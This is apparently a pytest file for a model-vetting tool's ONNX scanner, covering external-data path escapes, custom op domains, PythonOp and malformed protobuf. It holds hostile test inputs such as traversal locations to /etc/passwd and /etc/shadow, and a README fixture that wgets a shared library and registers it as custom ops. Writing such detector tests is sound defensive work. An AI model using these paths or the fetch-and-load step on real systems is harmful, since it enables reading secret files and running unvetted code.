"""OnnxScanner and the ONNX walk: models written byte by byte (tests/corpus/onnx_writer), no onnx."""

from __future__ import annotations

from pathlib import Path

import pytest

from app.core.findings import Severity
from app.core.formats.blobs import BudgetBlob, BytesBlob
from app.core.formats.detect import Format, detect_format
from app.core.formats.onnx_model import OnnxModel, walk_model
from app.core.formats.protobuf_wire import WireError
from app.core.formats.ranged_wire import Walk
from app.core.formats.window import ByteWindow
from app.core.limits import LimitExceeded
from app.core.manifest import ManifestFile
from app.core.pipeline import VetOptions, vet
from app.core.report import Report
from app.core.scanners import all_scanners
from app.core.scanners.onnx_scanner import OnnxScanner
from app.sources.local import LocalSource
from tests.corpus import onnx_writer as w

EXTERNAL = {"location": "model.onnx_data", "offset": "0", "length": "864"}


def _vet(tmp_path: Path, files: dict[str, bytes]) -> Report:
    for path, data in files.items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_bytes(data)
    return vet(LocalSource(tmp_path), all_scanners(), options=VetOptions(workers=1))


def _onnx(report: Report) -> list[tuple[str, Severity, str | None]]:
    return sorted((f.rule, f.severity, f.evidence) for f in report.findings if f.scanner == "onnx")


def _walk(data: bytes) -> OnnxModel:
    model = OnnxModel()
    walk_model(Walk(ByteWindow(BytesBlob(data))), model)
    return model


def test_a_model_is_detected_by_content_and_handled_by_name() -> None:
    data = w.conv_net()
    assert detect_format(data[:4096], len(data)) == Format.ONNX
    assert OnnxScanner().handles(ManifestFile("x/model.onnx", 10))  # whatever its bytes sniff as
    assert not OnnxScanner().handles(ManifestFile("model.bin", 10))
    assert detect_format(b"\x08\x07garbage\xff\xff", 12) != Format.ONNX


def test_an_ordinary_conv_net_is_clean(tmp_path: Path) -> None:
    report = _vet(tmp_path, {"model.onnx": w.conv_net()})
    assert report.findings == () and report.files[0].format == "onnx" and report.files[0].scanned


def test_external_data_inside_the_folder_is_clean(tmp_path: Path) -> None:
    report = _vet(tmp_path, {"onnx/model.onnx": w.conv_net(external=EXTERNAL),
                             "onnx/model.onnx_data": w.floats(216)})
    assert _onnx(report) == []
    # the data file is bytes of no format: the low unrecognized-binary the policy already weighs
    assert [f.rule for f in report.findings] == ["unrecognized-binary"]


# onnx/external_data_helper.py load_external_data_for_tensor and onnxruntime's
# tensorprotoutils.cc GetExternalDataInfo: the location is joined to the model's folder and opened.
@pytest.mark.advisory("CVE-2022-25882", "CVE-2024-27318")
@pytest.mark.parametrize("location", [
    "../../etc/passwd", "/etc/passwd", "C:\\Windows\\win.ini", "\\\\host\\share\\w.bin", "sub/../../x.bin",
    "file:///etc/passwd", "..\\..\\secret", "*/_ORT_MEM_ADDR_/*",
])
def test_external_data_leaving_the_folder_is_critical(tmp_path: Path, location: str) -> None:
    report = _vet(tmp_path, {"model.onnx": w.conv_net(external={"location": location, "offset": "0"})})
    assert ("onnx-external-data-escape", Severity.CRITICAL, location) in _onnx(report)


def test_a_location_naming_no_file_of_the_repo_is_a_finding(tmp_path: Path) -> None:
    report = _vet(tmp_path, {"model.onnx": w.conv_net(external={"location": "weights.bin"})})
    assert _onnx(report) == [("onnx-external-data-missing", Severity.MEDIUM, "weights.bin")]


def test_an_offset_past_the_file_is_a_finding(tmp_path: Path) -> None:
    report = _vet(tmp_path, {"model.onnx": w.conv_net(external={**EXTERNAL, "offset": "100000"}),
                             "model.onnx_data": w.floats(216)})
    assert _onnx(report) == [("onnx-external-data-range", Severity.MEDIUM, "model.onnx_data")]


def _subgraph_model(location: str) -> bytes:
    # If's then_branch holds a Constant whose value tensor is external: onnx's _get_all_tensors
    # walks attribute tensors of nodes in subgraphs too.
    constant = w.node("Constant", (), ("c",), attributes=[
        w.attribute_tensor("value", w.tensor("k", (4,), external={"location": location}))])
    branch = w.graph([constant], name="then", inputs=(), outputs=("c",))
    node = w.node("If", ("cond",), ("y",), attributes=[w.attribute_graph("then_branch", branch),
                                                      w.attribute_graph("else_branch", branch)])
    return w.model(w.graph([node]))


@pytest.mark.advisory("CVE-2022-25882", "CVE-2024-27318")
def test_external_data_in_a_subgraph_attribute_tensor_is_read(tmp_path: Path) -> None:
    model = _walk(_subgraph_model("/etc/shadow"))
    assert [t.values("location") for t in model.external] == [["/etc/shadow"], ["/etc/shadow"]]
    report = _vet(tmp_path, {"model.onnx": _subgraph_model("/etc/shadow")})
    assert ("onnx-external-data-escape", Severity.CRITICAL, "/etc/shadow") in _onnx(report)


def test_custom_domains_are_findings_high_beside_a_shared_library(tmp_path: Path) -> None:
    custom = w.model(w.graph([w.node("Decode", ("x",), ("y",), domain="ai.onnx.contrib"),
                              w.node("Gelu", ("y",), ("z",), domain="com.microsoft")]),
                     opsets=(("", 17), ("ai.onnx.contrib", 1), ("com.microsoft", 1)))
    report = _vet(tmp_path / "a", {"model.onnx": custom})
    assert _onnx(report) == [("onnx-custom-domain", Severity.MEDIUM, "ai.onnx.contrib")]
    report = _vet(tmp_path / "b", {"model.onnx": custom, "libcustom_ops.so": b"\x7fELF" + bytes(60)})
    assert ("onnx-custom-domain", Severity.HIGH, "ai.onnx.contrib") in _onnx(report)


def test_a_local_function_is_not_a_custom_op(tmp_path: Path) -> None:
    body = [w.node("Relu", ("x",), ("y",))]
    data = w.model(w.graph([w.node("MyRelu", ("x",), ("y",), domain="my.fn")]), opsets=(("", 17), ("my.fn", 1)),
                   functions=[w.function("MyRelu", "my.fn", body)])
    assert _walk(data).functions == {("my.fn", "MyRelu")}
    assert _onnx(_vet(tmp_path, {"model.onnx": data})) == []


def test_python_op_is_high(tmp_path: Path) -> None:
    data = w.model(w.graph([w.node("PythonOp", ("x",), ("y",), domain="com.microsoft")]))
    assert _onnx(_vet(tmp_path, {"model.onnx": data})) == [("onnx-python-op", Severity.HIGH, "com.microsoft::PythonOp")]


def test_garbage_named_onnx_is_malformed(tmp_path: Path) -> None:
    report = _vet(tmp_path, {"model.onnx": b"\x0a\xff\xff\xff\xff\x0fnot a model"})
    assert [r for r, _s, _e in _onnx(report)] == ["malformed-onnx"]
    with pytest.raises(WireError):
        _walk(w.field_bytes(7, b"\x0a\x05ab"))  # a node whose length runs past its graph


def test_the_walk_jumps_over_tensor_bytes() -> None:
    big = w.model(w.graph([w.node("Relu", ("x",), ("y",))],
                          [w.tensor(f"t{i}", (1 << 18,), raw=bytes(1 << 20)) for i in range(32)]))
    counted = BudgetBlob(BytesBlob(big), len(big))
    model = OnnxModel()
    walk_model(Walk(ByteWindow(counted)), model)
    assert model.op_counts == {("", "Relu"): 1}
    assert counted.bytes_read < 32 * 16 * 1024, counted.bytes_read  # 32 MiB of weights, kilobytes read


def test_the_field_budget_stops_a_walk() -> None:
    many = w.model(w.graph([w.node("Relu", ("x",), ("y",)) for _ in range(2000)]))
    with pytest.raises(LimitExceeded):
        walk_model(Walk(ByteWindow(BytesBlob(many)), max_fields=1000), OnnxModel())


# protobuf's parser (onnx and onnxruntime link it) keeps unknown fields, groups and known fields
# of another wire type, and proto2 strings need not be UTF-8: none of them may stop the walk
# before an external data location the runtime would open.
def test_what_protobuf_accepts_does_not_stop_the_walk(tmp_path: Path) -> None:
    group = w.varint(99 << 3 | 3) + w.field_varint(1, 5) + w.varint(99 << 3 | 4)  # an unknown group field
    odd = w.field_varint(7, 1)  # the graph field as a varint: an unknown field to the parser
    bad_name = w.field_bytes(3, b"\xff\xfe")  # a node name that is not UTF-8
    node = w.node("Relu", ("x",), ("y",)) + bad_name
    escaping = w.tensor("t", (4,), external={"location": "../../../etc/hosts"})
    data = w.field_varint(1, 8) + group + odd + w.field_bytes(7, w.field_bytes(1, node) + w.field_bytes(5, escaping))
    report = _vet(tmp_path, {"model.onnx": data})
    assert ("onnx-external-data-escape", Severity.CRITICAL, "../../../etc/hosts") in _onnx(report)


def test_a_group_without_its_end_is_malformed() -> None:
    with pytest.raises(WireError):
        _walk(w.field_varint(1, 8) + w.varint(99 << 3 | 3) + w.field_varint(1, 5))


# onnxruntime's SessionOptions.register_custom_ops_library maps the library into the process
# (C API RegisterCustomOpsLibrary -> dlopen): a fetched library registered so is run.
def test_a_fetched_library_registered_as_custom_ops_is_run(tmp_path: Path) -> None:
    card = ("```bash\nwget https://example.invalid/libdecode.so\n```\n"
            "```python\nso.register_custom_ops_library('./libdecode.so')\n```\n")
    report = _vet(tmp_path, {"README.md": card.encode(), "model.onnx": w.conv_net()})
    assert "download-and-execute" in {f.rule for f in report.findings}
